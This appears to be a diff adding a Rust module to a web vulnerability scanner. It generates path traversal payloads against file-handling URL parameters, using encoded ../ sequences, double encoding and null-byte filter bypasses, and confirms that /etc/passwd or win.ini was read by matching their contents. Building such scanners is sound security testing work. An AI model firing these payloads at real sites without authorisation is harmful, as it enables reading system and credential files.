@@ -0,0 +1,178 @@
+/**
+ * Path Traversal Payloads and Markers
+ *
+ * 只測試名稱看起來處理檔案的參數 (file、path、template、include、page、doc…)，
+ * 在頁面連結中實際出現的端點上替換參數值，遍歷深度 1–6，單次 / 雙重編碼與 null byte 後綴。
+ *
+ * 確認需要讀到的檔案內容符合格式，而不是頁面中剛好出現 "root:" 字串：
+ * - /etc/passwd：root 帳號行的完整格式 (root:x:0:0:…:…:…)
+ * - win.ini：Windows 的區段標頭 ([fonts]、[extensions]…)
+ * 且回應經正規化後必須與基準不同、基準中不含相同標記。
+ */
+
+use regex::Regex;
+use serde::Serialize;
+use std::sync::OnceLock;
+
+/// 參數名稱包含這些字串時視為處理檔案
+const FILE_PARAM_HINTS: &[&str] = &["file", "path", "template", "tpl", "include", "inc", "page", "doc", "folder", "dir", "load", "read", "view"];
+/// 完全沒有參數證據時才測試的短清單
+pub const FALLBACK_PARAMS: &[&str] = &["file", "path", "page"];
+/// 每個目標最多測試的參數數量
+pub const MAX_PARAMS: usize = 6;
+pub const MAX_DEPTH: usize = 6;
+
+/// 目標檔案
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum TargetFile {
+    EtcPasswd,
+    WinIni,
+}
+
+impl TargetFile {
+    pub const ALL: [TargetFile; 2] = [TargetFile::EtcPasswd, TargetFile::WinIni];
+
+    fn path(&self, separator: &str) -> String {
+        match self {
+            TargetFile::EtcPasswd => format!("etc{}passwd", separator),
+            TargetFile::WinIni => format!("windows{}win.ini", separator),
+        }
+    }
+
+    fn separators(&self) -> &'static [&'static str] {
+        match self {
+            TargetFile::EtcPasswd => &["/"],
+            TargetFile::WinIni => &["/", "\\"],
+        }
+    }
+
+    fn marker(&self) -> &'static Regex {
+        static PASSWD: OnceLock<Regex> = OnceLock::new();
+        static WIN_INI: OnceLock<Regex> = OnceLock::new();
+        match self {
+            // root 帳號行：帳號、密碼欄、UID 0、GID 0、說明、家目錄、shell
+            TargetFile::EtcPasswd => PASSWD.get_or_init(|| {
+                Regex::new(r"(?m)^root:[^:\n]*:0:0:[^:\n]*:/[^:\n]*:/[^:\n]*$").unwrap()
+            }),
+            TargetFile::WinIni => WIN_INI.get_or_init(|| {
+                Regex::new(r"(?mi)^\[(?:fonts|extensions|mci extensions|files|mail)\]\s*$").unwrap()
+            }),
+        }
+    }
+
+    /// 符合標記的行 (最多 3 行)；沒有時為空
+    pub fn matched_lines(&self, body: &str) -> Vec<String> {
+        let mut lines: Vec<String> = self.marker().find_iter(body).take(3).map(|m| m.as_str().trim().to_string()).collect();
+        // passwd 的其他帳號行也一併作為證據
+        if *self == TargetFile::EtcPasswd && !lines.is_empty() {
+            static ACCOUNT: OnceLock<Regex> = OnceLock::new();
+            let account = ACCOUNT.get_or_init(|| Regex::new(r"(?m)^[a-z_][a-z0-9_-]*:[^:\n]*:\d+:\d+:[^:\n]*:[^:\n]*:[^:\n]*$").unwrap());
+            lines.extend(account.find_iter(body).map(|m| m.as_str().to_string()).filter(|l| !l.starts_with("root:")).take(2));
+        }
+        lines
+    }
+}
+
+/// 編碼方式
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Encoding {
+    /// 一般的 URL 編碼
+    Single,
+    /// ../ 雙重編碼為 %252e%252e%252f，繞過只解碼一次的過濾
+    Double,
+}
+
+/// 一個遍歷 payload；value 已是放入查詢字串的原始值 (不再編碼)
+#[derive(Debug, Clone, Serialize)]
+pub struct TraversalPayload {
+    pub file: TargetFile,
+    pub depth: usize,
+    pub encoding: Encoding,
+    pub null_byte: bool,
+    pub value: String,
+}
+
+/// 依深度由淺到深產生所有 payload
+pub fn payloads(file: TargetFile) -> Vec<TraversalPayload> {
+    let mut payloads = Vec::new();
+    for depth in 1..=MAX_DEPTH {
+        for separator in file.separators() {
+            let plain = format!("{}{}", format!("..{}", separator).repeat(depth), file.path(separator));
+            for encoding in [Encoding::Single, Encoding::Double] {
+                for null_byte in [false, true] {
+                    let mut value = match encoding {
+                        Encoding::Single => urlencoding::encode(&plain).into_owned(),
+                        Encoding::Double => urlencoding::encode(&plain).replace('%', "%25").replace('.', "%252e"),
+                    };
+                    if null_byte {
+                        // 繞過強制附加副檔名的實作
+                        value.push_str(if encoding == Encoding::Double { "%2500.html" } else { "%00.html" });
+                    }
+                    payloads.push(TraversalPayload { file, depth, encoding, null_byte, value });
+                }
+            }
+        }
+    }
+    payloads
+}
+
+pub fn is_file_param(name: &str) -> bool {
+    let lower = name.to_lowercase();
+    FILE_PARAM_HINTS.iter().any(|hint| lower.contains(hint))
+}
+
+/// 頁面中處理檔案的參數與其所在端點 (連結與表單)；目標 URL 本身的參數也算
+pub fn discover(base_url: &str, html: &str) -> Vec<(String, String)> {
+    let Ok(base) = reqwest::Url::parse(base_url) else {
+        return Vec::new();
+    };
+    let mut found: Vec<(String, String)> = base
+        .query_pairs()
+        .filter(|(name, _)| is_file_param(name))
+        .map(|(name, _)| (base.to_string(), name.to_string()))
+        .collect();
+
+    static LINK: OnceLock<Regex> = OnceLock::new();
+    let link = LINK.get_or_init(|| Regex::new(r#"(?i)(?:href|src|action)\s*=\s*["']([^"'#]*\?[^"'#]+)["']"#).unwrap());
+    for caps in link.captures_iter(html) {
+        let Ok(url) = base.join(&caps[1].replace("&amp;", "&")) else { continue };
+        if url.host_str() != base.host_str() {
+            continue;
+        }
+        for (name, _) in url.query_pairs().filter(|(name, _)| is_file_param(name)) {
+            let entry = (url.to_string(), name.to_string());
+            // 同一參數只測試一個端點
+            if !found.iter().any(|(_, existing)| *existing == entry.1) {
+                found.push(entry);
+            }
+        }
+    }
+
+    found.truncate(MAX_PARAMS);
+    found
+}
+
+/// 將 endpoint 中 name 參數的值換成 raw_value (已編碼，不再處理)；沒有該參數時附加
+pub fn with_raw_param(endpoint: &str, name: &str, raw_value: &str) -> String {
+    let (path, query) = endpoint.split_once('?').unwrap_or((endpoint, ""));
+    let mut replaced = false;
+    let mut pairs: Vec<String> = query
+        .split('&')
+        .filter(|pair| !pair.is_empty())
+        .map(|pair| {
+            let key = pair.split('=').next().unwrap_or_default();
+            if !replaced && urlencoding::decode(key).map(|k| k == name).unwrap_or(false) {
+                replaced = true;
+                format!("{}={}", key, raw_value)
+            } else {
+                pair.to_string()
+            }
+        })
+        .collect();
+    if !replaced {
+        pairs.push(format!("{}={}", urlencoding::encode(name), raw_value));
+    }
+    format!("{}?{}", path, pairs.join("&"))
+}